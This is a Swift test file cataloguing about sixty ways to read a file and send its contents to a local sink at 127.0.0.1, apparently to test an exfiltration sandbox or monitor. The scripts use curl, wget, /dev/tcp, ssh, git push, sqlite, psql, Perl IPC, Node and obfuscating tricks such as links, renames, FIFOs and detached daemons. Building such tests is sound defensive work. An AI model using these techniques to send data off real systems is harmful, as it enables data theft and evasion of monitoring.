import Testing

/// One way to bring a file out: a script, with `F` the file, `P` the sink's port, `U` its unix socket.
struct Way: Sendable, CustomTestStringConvertible {
    let name: String
    let script: String
    var needs: [String] = []
    /// What it says besides, before it has read: a greeting, an empty line, an archive with nothing in it.
    var talks = false
    var testDescription: String { name }

    static let all: [Way] = shell + python + others

    private static let send = "curl -s -m 10 --data-binary @- http://127.0.0.1:$P/"
    private static let shell: [Way] = [
        Way(name: "curl", script: "curl -s -m 10 --data-binary @$F http://127.0.0.1:$P/", needs: ["curl"]),
        Way(name: "curl-upload", script: "curl -s -m 10 -T $F http://127.0.0.1:$P/", needs: ["curl"]),
        Way(name: "cat-pipe-curl", script: "cat $F | \(send)", needs: ["curl"]),
        Way(name: "here-string", script: "\(send) <<< \"$(base64 < $F)\"", needs: ["curl"]),
        Way(name: "command-substitution", script: "curl -s -m 10 \"http://127.0.0.1:$P/?q=$(head -c 6 $F)\"", needs: ["curl"]),
        Way(name: "argument", script: "sh -c 'curl -s -m 10 -d \"$1\" http://127.0.0.1:$P/' sh \"$(cat $F)\"", needs: ["curl"]),
        Way(name: "variable", script: "export X=\"$(cat $F)\"; sh -c 'printf %s \"$X\" | \(send)'", needs: ["curl"]),
        Way(name: "process-substitution", script: "curl -s -m 10 --data-binary @<(cat $F) http://127.0.0.1:$P/", needs: ["curl"]),
        Way(
            name: "own-descriptor", script: "exec 3< $F; curl -s -m 10 --data-binary @/proc/self/fd/3 http://127.0.0.1:$P/", needs: ["curl"]
        ),
        Way(
            name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/",
            needs: ["curl"]),
        Way(name: "dev-tcp", script: "cat $F > /dev/tcp/127.0.0.1/$P"),
        Way(name: "dev-tcp-first", script: "exec 3<> /dev/tcp/127.0.0.1/$P; cat $F >&3"),
        Way(name: "dev-tcp-builtin", script: "exec 3<> /dev/tcp/127.0.0.1/$P; read -r line < $F; echo \"$line\" >&3", talks: true),
        Way(name: "dev-udp", script: "cat $F > /dev/udp/127.0.0.1/$P"),
        Way(name: "tar", script: "tar cf - -C / ${F#/} > /dev/tcp/127.0.0.1/$P", needs: ["tar"], talks: true),
        Way(
            name: "archive-then-send", script: "tar czf a.tgz -C / ${F#/}; mv a.tgz b; cat b > /dev/tcp/127.0.0.1/$P",
            needs: ["tar", "gzip"]),
        Way(name: "gzip", script: "gzip -c $F | base64 | tr A-Za-z N-ZA-Mn-za-m > /dev/tcp/127.0.0.1/$P", needs: ["gzip"]),
        Way(name: "copied", script: "cp $F c; cp c d; cat d > /dev/tcp/127.0.0.1/$P"),
        Way(name: "renamed", script: "mv $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "hard-link", script: "ln $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "symlink", script: "ln -s $F c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(name: "folder-moved", script: "mv ${F%/*} moved; cat moved/* > /dev/tcp/127.0.0.1/$P"),
        Way(name: "dd", script: "dd if=$F of=c 2> /dev/null; dd if=c 2> /dev/null | cat > /dev/tcp/127.0.0.1/$P"),
        Way(name: "xargs", script: "xargs -a $F -I{} sh -c 'echo {} | \(send)'", needs: ["curl"]),
        Way(name: "sed-in-place", script: "echo x > c; sed -i \"r $F\" c; cat c > /dev/tcp/127.0.0.1/$P"),
        Way(
            name: "fifo-before",
            script: "mkfifo p; (exec 4<> p; read -r l <&4; echo \"$l\" > /dev/tcp/127.0.0.1/$P) & sh -c 'cat $F > p'; wait"),
        Way(
            name: "fifo-connected-before",
            script:
                "mkfifo p; (exec 3> /dev/tcp/127.0.0.1/$P; : > ready; timeout 5 cat < p >&3) & while ! [ -e ready ]; do :; done; cat $F > p; wait"
        ),
        Way(name: "coprocess", script: "coproc R { read -r l; echo \"$l\" > /dev/tcp/127.0.0.1/$P; }; cat $F >&${R[1]}; wait"),
        Way(
            name: "daemon",
            script:
                "setsid bash -c 'for i in {1..2000}; do if [ -s spool ]; then cat spool > /dev/tcp/127.0.0.1/$P; break; fi; sleep 0.01; done' & cat $F > spool; wait"
        ),
        Way(name: "terminal", script: "script -qc \"cat $F\" /dev/null | cat > /dev/tcp/127.0.0.1/$P", needs: ["script"], talks: true),
    ]

    private static let others: [Way] = [
        Way(name: "wget", script: "wget -q -T 10 -t 1 -O - --post-file=$F http://127.0.0.1:$P/", needs: ["wget"]),
        Way(
            name: "ssh",
            script: "tar cf a -C / ${F#/}; ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat < a",
            needs: ["ssh", "tar"], talks: true),
        Way(
            name: "git-push",
            script:
                "git init -q r && cd r && cp $F f && git add f && git -c user.name=n -c user.email=e commit -qm m && git push -q git://127.0.0.1:$P/r HEAD:m",
            needs: ["git"]),
        Way(
            name: "sqlite",
            script: "sqlite3 x.db \"CREATE TABLE t AS SELECT readfile('$F') AS d\"; sqlite3 x.db 'SELECT d FROM t' > /dev/tcp/127.0.0.1/$P",
            needs: ["sqlite3"]),
        Way(
            name: "psql",
            script:
                "psql \"host=127.0.0.1 port=$P user=u dbname=d sslmode=disable gssencmode=disable connect_timeout=5\" -c \"INSERT INTO t VALUES ('$(cat $F)')\"",
            needs: ["psql"]),
        Way(name: "openssl", script: "openssl s_client -quiet -connect 127.0.0.1:$P < $F", needs: ["openssl"]),
        Way(
            name: "perl",
            script:
                "perl -MIO::Socket::INET -e 'open F, $ENV{F} or die; my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s <F>'",
            needs: ["perl"]),
        Way(
            name: "perl-shared-memory",
            script:
                "perl -MIO::Socket::INET -e 'my $id = shmget(0, 4096, 0600) // die; if (!fork) { open F, $ENV{F} or die; shmwrite($id, scalar(<F>), 0, 64) or die; exit } wait; my $b; shmread($id, $b, 0, 64) or die; shmctl($id, 0, 0); my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s $b'",
            needs: ["perl"]),
        Way(
            name: "perl-message-queue",
            script:
                "perl -MIO::Socket::INET -e 'my $id = msgget(0, 0600) // die; if (!fork) { open F, $ENV{F} or die; msgsnd($id, pack(\"l! a*\", 1, scalar(<F>)), 0) or die; exit } my $b; msgrcv($id, $b, 4096, 0, 0) // die; msgctl($id, 0, 0); my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; print $s $b'",
            needs: ["perl"]),
        Way(
            name: "perl-message-queue-connected-first",
            script:
                "perl -MIO::Socket::INET -e 'my $id = msgget(0, 0600) // die; pipe(R, W); if (!fork) { my $s = IO::Socket::INET->new(\"127.0.0.1:$ENV{P}\") or die; close R; close W; my $b; msgrcv($id, $b, 4096, 0, 0) and print $s $b; exit } close W; <R>; open F, $ENV{F} or die; msgsnd($id, pack(\"l! a*\", 1, scalar(<F>)), 0) or msgctl($id, 0, 0); wait; msgctl($id, 0, 0)'",
            needs: ["perl"]),
        Way(
            name: "node",
            script:
                "node -e 'const d = require(\"fs\").readFileSync(process.env.F); require(\"net\").connect(+process.env.P, \"127.0.0.1\").end(d)'",
            needs: ["node"]),
    ]

    private static let python: [Way] = [
        "socket", "connected-first", "datagram", "dns-name", "unix-socket", "relay-tcp", "relay-unix", "memfd", "descriptor-passed",
        "descriptor-in-flight", "socketpair", "queue", "subprocess", "shared-memory", "shared-file", "connection-passed",
        "environment-of-other",
        "relay-abstract", "pipe-between-siblings", "unshared-thread", "exec-from-thread", "orphan",
    ].map { Way(name: "python-\($0)", script: "/usr/bin/python3 $T/ways.py \($0)", needs: ["python3"]) }
}
